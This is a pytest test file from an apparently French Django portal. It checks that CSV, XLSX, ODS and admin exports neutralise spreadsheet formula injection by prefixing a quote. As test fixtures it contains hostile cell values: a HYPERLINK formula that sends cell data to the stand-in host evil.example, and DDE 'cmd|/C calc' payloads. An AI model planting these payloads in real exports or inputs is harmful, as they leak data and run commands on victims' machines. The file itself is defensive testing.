"""No cell of a tabular export can become a formula (OWASP CSV injection): every format is read back."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
import time_machine
from django.urls import reverse
from odf.opendocument import load
from odf.table import TableCell

from ami_portal.tabular import safe_cell
from public.models import ExportJob
from public.services import export_job_run

from .conftest import PUBLISHES_AT, laureate

AFTER = PUBLISHES_AT + timedelta(days=1)
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
HOSTILE_SUMMARY = "@SUM(1+1)*cmd|' /C calc'!A0"

pytestmark = pytest.mark.django_db


@pytest.fixture
def hostile(wave, chalon):
    return laureate(wave, commune=chalon, title=HOSTILE_TITLE, public_summary=HOSTILE_SUMMARY)


@pytest.mark.parametrize("value", ["=1+2", "+33 1 23", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1"])
def test_text_starting_a_formula_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-12, -3.5, 0, 45000, None, True])
def test_numbers_and_empty_cells_are_left_as_they_are(value):
    assert safe_cell(value) is value


def test_harmless_text_is_unchanged():
    assert safe_cell("Campus connecté de Chalon") == "Campus connecté de Chalon"


def _press_export(client, fmt):
    with time_machine.travel(AFTER, tick=False):
        response = client.post("/presse/exports/", {"campaign": "ami2", "format": fmt})
        raw = b"".join(response.streaming_content) if response.streaming else response.content
    assert response.status_code == 200, raw[:300]
    return raw


@pytest.mark.parametrize("fmt, delimiter, encoding", [("csv", ";", "utf-8-sig"), ("csv-comma", ",", "utf-8")])
def test_press_csv_cells_are_quoted_text(client_for, hostile, fmt, delimiter, encoding):
    raw = _press_export(client_for("press"), fmt)
    rows = list(csv.reader(io.StringIO(raw.decode(encoding)), delimiter=delimiter))
    assert rows[1][10] == "'" + HOSTILE_TITLE
    assert rows[1][11] == "'" + HOSTILE_SUMMARY
    assert rows[1][5] == "45000"


def _xlsx_cells(raw):
    sheet = openpyxl.load_workbook(io.BytesIO(raw)).active
    return list(sheet.iter_rows())[1]


def test_press_xlsx_cells_are_strings_not_formulas(client_for, hostile):
    cells = _xlsx_cells(_press_export(client_for("press"), "xlsx"))
    for cell, expected in ((cells[10], HOSTILE_TITLE), (cells[11], HOSTILE_SUMMARY)):
        assert cell.data_type == "s"
        assert cell.value == "'" + expected
    assert cells[5].data_type == "n" and cells[5].value == 45000


def _ods_row(raw):
    document = load(io.BytesIO(raw))
    cells = document.spreadsheet.getElementsByType(TableCell)
    width = len(cells) // 2  # header row + one laureate
    return cells[width:]


def test_press_ods_cells_are_strings_not_formulas(client_for, hostile):
    cells = _ods_row(_press_export(client_for("press"), "ods"))
    for cell, expected in ((cells[10], HOSTILE_TITLE), (cells[11], HOSTILE_SUMMARY)):
        assert cell.getAttribute("valuetype") == "string"
        assert cell.getAttribute("formula") is None
        assert str(cell) == "'" + expected
    assert cells[5].getAttribute("valuetype") == "float"


def test_open_data_csv_cells_are_quoted_text(client, hostile):
    with time_machine.travel(AFTER, tick=False):
        response = client.get("/donnees/laureats.csv")
        raw = b"".join(response.streaming_content)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"))))
    assert rows[1][10] == "'" + HOSTILE_TITLE
    assert rows[1][11] == "'" + HOSTILE_SUMMARY


def test_export_job_xlsx_cells_are_strings_not_formulas(client_for, hostile, settings):
    from .conftest import make_user

    job = ExportJob.objects.create(requested_by=make_user("press"), params={"campaign": "ami2"}, format="xlsx")
    with time_machine.travel(AFTER, tick=False):
        export_job_run(job_id=job.pk)
    job.refresh_from_db()
    cells = _xlsx_cells(job.file.open("rb").read())
    assert cells[10].data_type == "s" and cells[10].value == "'" + HOSTILE_TITLE


def test_admin_dossier_csv_export_cells_are_quoted_text(client_for, wave):
    from tests.factories import CommuneFactory, DossierFactory

    dossier = DossierFactory(wave=wave, commune=CommuneFactory(name="=cmd|'/C calc'!A0"), status="submitted")
    client = client_for("coordinator")
    response = client.post(
        reverse("admin:applications_dossier_changelist"),
        {
            "action": "export_csv",
            "_selected_action": [dossier.pk],
        },
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][1] == "'=cmd|'/C calc'!A0"
